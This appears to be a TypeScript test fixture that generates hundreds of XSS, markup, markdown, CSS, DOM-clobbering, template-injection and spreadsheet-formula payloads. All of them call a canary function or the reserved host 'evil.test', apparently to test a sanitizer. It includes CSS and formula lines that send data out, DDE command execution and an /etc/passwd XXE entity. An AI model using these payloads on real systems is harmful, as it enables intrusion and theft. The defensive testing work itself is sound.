/** What every payload tries: to call the canary that the page of a test has. */
const run = 'top.ran()';
/** A host that nobody has: RFC 2606 keeps `.test` free. */
const host = 'evil.test';

const events = [
  ...['onload', 'onerror', 'onclick', 'onfocus', 'onblur', 'onmouseover', 'onmouseenter', 'onpointerover'],
  ...['onanimationstart', 'onanimationend', 'ontransitionend', 'ontoggle', 'onbegin', 'onend', 'onrepeat'],
  ...['onscroll', 'onwheel', 'oncut', 'oncopy', 'onpaste', 'oninput', 'onchange', 'oninvalid', 'onselect'],
  ...['onstart', 'onfinish', 'onbounce', 'onloadstart', 'oncanplay', 'ondrag', 'ondrop', 'onhashchange'],
  ...[
    'onpageshow',
    'onresize',
    'onsubmit',
    'onreset',
    'onbeforeinput',
    'onformdata',
    'onkeydown',
    'onauxclick',
  ],
];
const tags = [
  ...['img', 'svg', 'body', 'iframe', 'video', 'audio', 'input', 'details', 'marquee', 'object', 'embed'],
  ...[
    'select',
    'textarea',
    'button',
    'form',
    'a',
    'div',
    'style',
    'link',
    'math',
    'table',
    'custom-tag',
    'frameset',
  ],
];

/** An event on an element, in the ways that it can begin by itself. */
const handlers = [
  ...events.map((event) => `<div ${event}="${run}" tabindex=1 autofocus contenteditable>x</div>`),
  ...tags.map((tag) => `<${tag} src=x onerror=${run} onload=${run} onfocus=${run} autofocus tabindex=1>`),
  ...tags.map((tag) => `"><${tag}/onload='${run}'/onerror='${run}'/src=//${host}/${tag}>`),
];

const classics = [
  `<script>${run}</script>`,
  `<script src=//${host}/a.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>${run}</script>`,
  `<script>eval('${run}')</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<script>${run}//`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><img src=x onerror=${run}>`,
  `</style><img src=x onerror=${run}>`,
  `--><img src=x onerror=${run}>`,
  `]]><img src=x onerror=${run}>`,
  `<img src=x onerror=${run}>`,
  `<img src="x" onerror="${run}"/>`,
  `<img src=x onerror=${run}//`,
  `<img src=x:x onerror=${run}>`,
  `<img/src/onerror=${run}>`,
  `<img\tsrc=x\tonerror=${run}>`,
  `<img\fsrc=x\fonerror=${run}>`,
  `<img src=x onerror\n=\n${run}>`,
  `<img src=x onerror=&#116;op.ran()>`,
  `<img src=x onerror="&#x74;op.ran()">`,
  `<img src=x onerror=top['ran']()>`,
  `<img src=x onerror=top["\\x72an"]()>`,
  `<img src=x onerror="top[\`ran\`]\`\`">`,
  `<img src=x onerror="window.onerror=top.ran;throw 1">`,
  `<img src=x onerror="setTimeout('${run}')">`,
  `<img src=x onerror="Function('${run}')()">`,
  `<img src=x onerror="import('data:text/javascript,${run}')">`,
  `<img srcset="x 1x" onerror=${run}>`,
  `<image src=x onerror=${run}>`,
  `<picture><source srcset=x><img onerror=${run}></picture>`,
  `<input type=image src=x onerror=${run}>`,
  `<input onfocus=${run} autofocus>`,
  `<details open ontoggle=${run}>x</details>`,
  `<dialog open onclose=${run}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<video><source onerror=${run}></video>`,
  `<video poster=x onloadstart=${run}><source src=x></video>`,
  `<audio src=x onerror=${run} autoplay></audio>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<embed src="data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${run}&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  `<iframe onload=${run}></iframe>`,
  `<frameset onload=${run}>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=//${host}/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
  `<base href="//${host}/">`,
  `<link rel=stylesheet href="//${host}/a.css">`,
  `<link rel=prefetch href="//${host}/a">`,
  `<link rel=dns-prefetch href="//${host}">`,
  `<link rel=preconnect href="//${host}">`,
  `<link rel=manifest href="//${host}/a">`,
  `<link rel=import href="//${host}/a">`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<form action="//${host}/"><input name=a value=b></form>`,
  `<button form=a formaction="javascript:${run}">x</button>`,
  `<isindex type=image src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<keygen autofocus onfocus=${run}>`,
  `<applet code=x onerror=${run}></applet>`,
  `<portal src="//${host}/"></portal>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<template><img src=x onerror=${run}></template>`,
  `<slot onslotchange=${run}></slot>`,
  `<plaintext onfocus=${run} autofocus>`,
  `<table background="//${host}/a.png"><td background="javascript:${run}">`,
  `<bgsound src="javascript:${run}">`,
  `<img dynsrc="javascript:${run}" lowsrc="javascript:${run}">`,
  `<ruby><rt><img src=x onerror=${run}></ruby>`,
];

const foreign = [
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><script xlink:href="//${host}/a.js"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${run} attributeName=x></svg>`,
  `<svg><a href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate xlink:href=#a attributeName=href values="javascript:${run}" /><a id=a><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><image href=x onerror=${run}></svg>`,
  `<svg><style>@import "//${host}/a.css";</style></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><title><img src=x onerror=${run}></title></svg>`,
  `<svg><desc><script>${run}</script></desc></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><discard onbegin=${run}></svg>`,
  `<svg><filter><feImage href="//${host}/a.png"/></filter></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
];

/** Markup that changes its meaning when it is parsed, written out and parsed again. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`,
  `<noscript><style></noscript><img src=x onerror=${run}></style>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<p id="\`\`onerror=${run} \`"><img src=x alt="\`\`onerror=${run}">`,
  `<a title="<!--"><img title="--><img src=x onerror=${run}>">`,
  `<svg></p><textarea><title><style></textarea><img src=x onerror=${run}></style></title></svg>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<table><tr><td><svg><desc><td><img src=x onerror=${run}>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<select><style></select><img src=x onerror=${run}></style>`,
  `<b><p title='</b><img src=x onerror=${run}>'>`,
  `<![if IE]><img src=x onerror=${run}><![endif]>`,
  `<//img src=x onerror=${run}>`,
  `</ img src=x onerror=${run}><img src=x onerror=${run}>`,
  `<%<!--'%><script>${run}</script -->`,
  `<x/onpointerrawupdate=${run}>x`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `javascript://%0a${run}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='${run}'>`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `vbscript:${run}`,
  `view-source:javascript:${run}`,
  `file:///etc/passwd`,
  `app://inkling/../../main/main.cjs`,
  `blob:https://${host}/1`,
  `filesystem:https://${host}/1`,
  `//${host}/a`,
  `\\\\${host}\\share`,
  `https://${host}/?a=b`,
  `http://127.0.0.1:8017/v1/models`,
];
const inLinks = addresses.flatMap((address) => [
  `<a href="${address}" autofocus>x</a>`,
  `[x](${address})`,
  `[x]: ${address}\n\n[x]`,
  `<${address}>`,
]);

const markdown = [
  `![x](https://${host}/a.png)`,
  `![x](x "onerror=${run}")`,
  `![x](x"onerror="${run})`,
  `![<img src=x onerror=${run}>](x)`,
  `[<img src=x onerror=${run}>](x)`,
  `[x](<javascript:${run}>)`,
  `[x](javascript:${run} "title")`,
  `[x]("onmouseover="${run})`,
  `# <img src=x onerror=${run}>`,
  `| a |\n| --- |\n| <img src=x onerror=${run}> |`,
  `\`\`\`"><img src=x onerror=${run}>\na\n\`\`\``,
  `\`<img src=x onerror=${run}>\``,
  `    <img src=x onerror=${run}>`,
  `> <script>${run}</script>`,
  `- [ ] <img src=x onerror=${run}>`,
  `<div markdown=1 onclick=${run}>x</div>`,
  `$$\\href{javascript:${run}}{x}$$`,
  `$\\includegraphics{//${host}/a.png}$`,
  `[^1]: <img src=x onerror=${run}>`,
  `*<img src=x onerror=${run}>*`,
  `<https://${host}/"onmouseover="${run}>`,
  `[a]: data:text/html,<script>${run}</script>`,
];

const styles = [
  `<style>@import '//${host}/a.css';</style>`,
  `<style>body{background:url(//${host}/a.png)}</style>`,
  `<style>*{display:none}</style>`,
  `<style>@font-face{font-family:a;src:url(//${host}/a.woff)}*{font-family:a}</style>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}>x</b>`,
  `<style>input[value^=a]{background:url(//${host}/a)}</style>`,
  `<div style="background:url(//${host}/a.png)">x</div>`,
  `<div style="background:url(javascript:${run})">x</div>`,
  `<div style="width:expression(${run})">x</div>`,
  `<div style="behavior:url(//${host}/a.htc)">x</div>`,
  `<div style="-moz-binding:url(//${host}/a.xml#a)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
  `red;background:url(//${host}/a.png)`,
  `'};alert(1);{'`,
];

/** Names that a page would rather have for itself. */
const clobbering = [
  `<form id=document><input name=cookie></form>`,
  `<img name=getElementById>`,
  `<form name=body><img name=firstChild></form>`,
  `<a id=inkling><a id=inkling name=requestPort href="javascript:${run}">x</a>`,
  `<input id=root><div id=root>x</div>`,
  `<iframe name=inkling srcdoc="<a id=savePdf>"></iframe>`,
  `<form id=location action="javascript:${run}">`,
  `<object id=trustedTypes><object name=createPolicy>`,
  `__proto__`,
  `constructor`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{$on.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{% raw %}${run}{% endraw %}`,
  `{{{html "<img src=x onerror=${run}>"}}}`,
  `$nest(a.b){{t}}`,
  `[[${run}]]`,
  `{a|${run}}`,
  `{"__html":"<img src=x onerror=${run}>"}`,
  `{"$$typeof":"react.element","type":"script","props":{}}`,
];

const oddities = [
  `\u202e<img src=x onerror=${run}>\u202c`,
  `\ufeff<script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `\u2028<img src=x onerror=${run}>\u2029`,
  `<\u0130mg src=x onerror=${run}>`,
  `<img src=x onerror=\u2028${run}>`,
  `<img src=x onerror=t\u200bop.ran()>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `%253Cscript%253E${run}%253C%252Fscript%253E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${run}\\x3e`,
  `<\0script>${run}</script>`,
  `<img src=x\0 onerror=${run}>`,
  `\u0008<img src=x onerror=${run}>`,
  `<img src='x' onerror='${run}' ‮>`,
];

/** Cells that a spreadsheet would take for a formula. */
const cells = [
  `=HYPERLINK("//${host}/?"&A1,"x")`,
  `=WEBSERVICE("//${host}/")`,
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=IMPORTXML("//${host}/","//a")`,
  `=DDE("cmd";"/C calc";"x")`,
  `\t=1+1`,
  `\r=1+1`,
  `"=1+1"`,
  `;=1+1`,
  `＝1+1`,
  `=IMAGE("//${host}/a.png")`,
];

/** Texts that would do something in a page that takes texts for markup, by the families they are known in. */
export const payloads: readonly string[] = [
  ...new Set([
    ...[...classics, ...handlers, ...foreign, ...mutations, ...inLinks, ...markdown, ...styles],
    ...[...clobbering, ...templates, ...oddities, ...cells],
  ]),
];

/** What ends whatever the payload before it left open, so that each is tried from the start. */
const end = `\n--></textarea></title></style></script></noscript></xmp></template></select></svg></math></iframe>'">`;

/** Many payloads as one text, each able to begin afresh; `longest` in characters. */
export function payloadText(longest = Infinity, from = 0): string {
  let text = '';
  for (let at = 0; at < payloads.length; at++) {
    const next = `${payloads[(from + at) % payloads.length]!}${end}`;
    if (text.length + next.length > longest) break;
    text += next;
  }
  return text;
}
